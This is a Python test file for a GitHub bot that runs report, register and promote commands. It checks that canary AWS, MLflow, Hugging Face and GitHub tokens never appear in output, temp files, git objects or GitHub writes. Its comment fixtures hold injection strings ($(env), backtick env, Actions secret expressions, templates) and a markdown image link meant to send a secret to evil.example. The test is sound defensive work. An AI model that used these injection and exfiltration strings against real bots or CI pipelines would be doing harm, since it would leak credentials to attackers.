"""No secret leaves a command: not by what it says, by outputs, summary, leftovers, nor by what it writes to GitHub."""

import base64
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from enum import StrEnum
from itertools import product
from pathlib import Path

import msgspec
import pytest

from merganser import git
from merganser.hub import Hub
from tests.commands.comments import GRANTED
from tests.commands.hunting import everything_in
from tests.commands.stage import BOT, ENVIRONMENTS, REPO, Life, Moment
from tests.commands.talking import Talk
from tests.commands.test_app import ALL, installed
from tests.commands.test_killed import start
from tests.forge.keys import Keys
from tests.forge.proxy import Fault, Proxy, Strike
from tests.forge.rogue import Reply, Seen
from tests.forge.rogue import answer as reply_of

COMMANDS = ("report", "register", "promote")
# What a job may hold beside GitHub's token: credentials of labels, of data, of a registry.
NAMES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "MLFLOW_TRACKING_PASSWORD", "HF_TOKEN")
HELD = {name: f"canary-of-{name.lower()}-0123456789" for name in NAMES}
GIVEN = "ghp_canary0123456789canary0123456789"


class Ending(StrEnum):
    """How a command ends: well, or with exit code 4 for one of these reasons."""

    well = "well"
    refused = "may do nothing"
    limited = "limited in the middle"
    sent_elsewhere = "sent to another host in the middle"


STRUCK = {Ending.limited: Fault.spent, Ending.sent_elsewhere: Fault.sent_elsewhere}


class Identity(StrEnum):
    """As whom it acts."""

    user = "by GITHUB_TOKEN"
    app = "as an App"


@pytest.fixture(scope="module")
def keys() -> Keys:
    return Keys()


@contextmanager
def acting(
    identity: Identity, moment: Moment, folder: Path, keys: Keys, granted: dict[str, str] = ALL
) -> Iterator[tuple[Hub, dict[str, str]]]:
    """A hub, and what the command is told of itself there."""
    with installed(moment, folder, keys, granted) as (hub, app):
        if identity is Identity.app:
            told = {
                "MERGANSER_APP_ID": app,
                "MERGANSER_APP_KEY": keys.private,
                "MERGANSER_LOGIN": "",
                "GITHUB_TOKEN": GIVEN,
            }
        else:
            told = {}
            for repo in (REPO, ENVIRONMENTS):
                hub.admin.set_permission(repo, BOT, "write")
        yield hub, told | HELD


def secrets_of(moment: Moment, keys: Keys) -> list[str]:
    """All that must be nowhere; of tokens made on the way, and of words signed with the key, how they begin."""
    for_git = base64.b64encode(f"x-access-token:{moment.access.bot}".encode()).decode()
    any_for_git = base64.b64encode(b"x-access-token:ghs_").decode().rstrip("=")[:-1]
    tokens = [GIVEN, moment.access.bot, for_git, any_for_git, "ghs_"]
    return [*HELD.values(), *tokens, *keys.private.splitlines()[1:-1], "eyJ"]


def said_by(hub: Hub | Proxy, moment: Moment, folder: Path, told: dict[str, str], command: str = "") -> tuple[int, str]:
    """Exit code and words of the command, in a folder of its own for all that a process leaves."""
    job = folder / "job"
    (job / "tmp").mkdir(parents=True)
    told = {**told, "TMPDIR": str(job / "tmp"), "HOME": str(job)}
    command = command or moment.directory.name
    process = start(hub, moment, command, job, told, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    said = process.communicate(timeout=120)[0].decode()
    return process.returncode, said


def hunted(moment: Moment, identity: Identity, ending: Ending, folder: Path, keys: Keys) -> None:
    with acting(identity, moment, folder, keys) as (hub, told):
        if ending is Ending.refused:
            hub.apps.install(BOT, [REPO, ENVIRONMENTS], {"metadata": "read"})
            for repo in (REPO, ENVIRONMENTS):
                hub.admin.set_permission(repo, BOT, "none")
        with Proxy(hub).running() as proxy:
            if ending in STRUCK:
                with proxy.spoiling(Strike(8, STRUCK[ending])):
                    code, said = said_by(proxy, moment, folder, told)
                assert proxy.struck
            else:
                code, said = said_by(proxy, moment, folder, told)
            strangers = proxy.tokens_seen_by_strangers()
    assert (code == 0) == (ending is Ending.well), said
    assert code in (0, 2, 4), said
    assert strangers == []
    assert found_in(said, folder, moment, keys) == []


def found_in(said: str, folder: Path, moment: Moment, keys: Keys, shown: bytes = b"tiny") -> list[str]:
    """The secrets in all that was said and written, of which `shown` is a part."""
    written = said.encode() + everything_in(folder)
    assert shown in written
    return [secret for secret in secrets_of(moment, keys) if secret.encode() in written]


CASES = list(product(COMMANDS, Identity, Ending))


@pytest.mark.parametrize(("command", "identity", "ending"), CASES[::5])
def test_secrets_are_nowhere(
    command: str, identity: Identity, ending: Ending, moments: dict[str, Moment], keys: Keys, tmp_path: Path
) -> None:
    hunted(moments[command], identity, ending, tmp_path, keys)


@pytest.mark.integration
@pytest.mark.parametrize(("command", "identity", "ending"), CASES)
def test_secrets_are_nowhere_however_it_ends(
    command: str, identity: Identity, ending: Ending, moments: dict[str, Moment], keys: Keys, tmp_path: Path
) -> None:
    hunted(moments[command], identity, ending, tmp_path, keys)


# What a comment may try: a shell's ways to a variable, Actions' expressions, templates, a page to send it to.
GREEDY = """\
/override accuracy:non_inferior --reason "$MERGANSER_APP_KEY ${{ secrets.MERGANSER_APP_KEY }} $(env) `env` \
${GITHUB_TOKEN} %HF_TOKEN% {{ HF_TOKEN }} {HF_TOKEN} ![](https://evil.example/?$AWS_SECRET_ACCESS_KEY)"
/train tiny a=$GITHUB_TOKEN
/promote tiny@$GITHUB_TOKEN staging
/train tiny a=40"""
WRONG = "/promote tiny $HF_TOKEN\n/train $MERGANSER_APP_KEY\n/override $GITHUB_TOKEN"


def said_in_a_comment(moment: Moment, hub: Hub, folder: Path, text: str) -> Moment:
    """The same hub; what starts the command there is another comment, by somebody who maintains."""
    talk = Talk.resume(Life(hub, folder, moment.access), moment)
    talk.tokens["carol"] = hub.admin.create_user("carol")
    for repo in (REPO, ENVIRONMENTS):
        hub.admin.set_permission(repo, "carol", "maintain")
    return msgspec.structs.replace(moment, event=talk.say(moment.event["issue"]["number"], "carol", text))


class Telltale(Proxy):
    """Refuses writes to one kind of address, in words that quote the token they came with, as part of an address."""

    def __init__(self, hub: Hub, where: str) -> None:
        super().__init__(hub)
        self._where = where

    def _forwarded(self, seen: Seen, target: str) -> Reply:
        if self._where not in seen.path or seen.verb == "GET":
            return super()._forwarded(seen, target)
        token = seen.headers["Authorization"].partition(" ")[2]
        words = f"See https://x-access-token:{token}@github.example/"
        if self._where == "/graphql":
            return reply_of({"errors": [{"type": "FORBIDDEN", "message": words}]})
        return reply_of({"message": words}, 403)


def commented(
    comment: str, moment: Moment, identity: Identity, folder: Path, keys: Keys, proxy: Callable[[Hub], Proxy] = Proxy
) -> tuple[int, str]:
    """The command that answers carol's comment: its exit code, and what it said."""
    with acting(identity, moment, folder, keys, GRANTED) as (hub, told):
        mine = said_in_a_comment(moment, hub, folder, comment)
        with proxy(hub).running() as between:
            code, said = said_by(between, mine, folder, told | {"GITHUB_EVENT_NAME": "issue_comment"}, "command")
            assert between.tokens_seen_by_strangers() == []
    return code, said


ASKED = [
    (GREEDY, b"evil.example", Identity.app),
    pytest.param(GREEDY, b"evil.example", Identity.user, marks=pytest.mark.integration),
    pytest.param(WRONG, b"Nothing of your", Identity.app, marks=pytest.mark.integration),
]


@pytest.mark.parametrize(("comment", "shown", "identity"), ASKED)
def test_no_comment_gets_a_secret_out(
    comment: str, shown: bytes, identity: Identity, comments: dict[str, Moment], keys: Keys, tmp_path: Path
) -> None:
    moment = comments["override"]
    code, said = commented(comment, moment, identity, tmp_path, keys)
    assert code == 0, said
    assert found_in(said, tmp_path, moment, keys, shown) == []


TOLD = [("/graphql", "override"), ("/check-runs", "gate")]


@pytest.mark.parametrize("identity", [Identity.app, pytest.param(Identity.user, marks=pytest.mark.integration)])
@pytest.mark.parametrize(("where", "name"), TOLD)
def test_an_error_that_quotes_the_token_is_told_without_it(
    where: str, name: str, identity: Identity, comments: dict[str, Moment], keys: Keys, tmp_path: Path
) -> None:
    moment = comments[name]
    comment = str(moment.event["comment"]["body"])
    code, said = commented(comment, moment, identity, tmp_path, keys, lambda hub: Telltale(hub, where))
    assert code == 0, said
    assert found_in(said, tmp_path, moment, keys, b"github.example") == []


def test_the_hunt_finds_what_is_there(tmp_path: Path) -> None:
    """In a file, in a git object, which is packed, in a zip, and escaped for a comment."""
    git.run(["init", "-q", "--bare", "clone"], tmp_path)
    git.run(["hash-object", "-w", "--stdin"], tmp_path / "clone", stdin=b"canary one")
    (tmp_path / "plain").write_bytes(b"canary two, and can&#8203;ary&#95;five")
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a", "canary three " * 9)
    found = everything_in(tmp_path)
    there = [word in found for word in (b"canary one", b"canary two", b"canary three", b"canary four", b"canary_five")]
    assert there == [True, True, True, False, True]
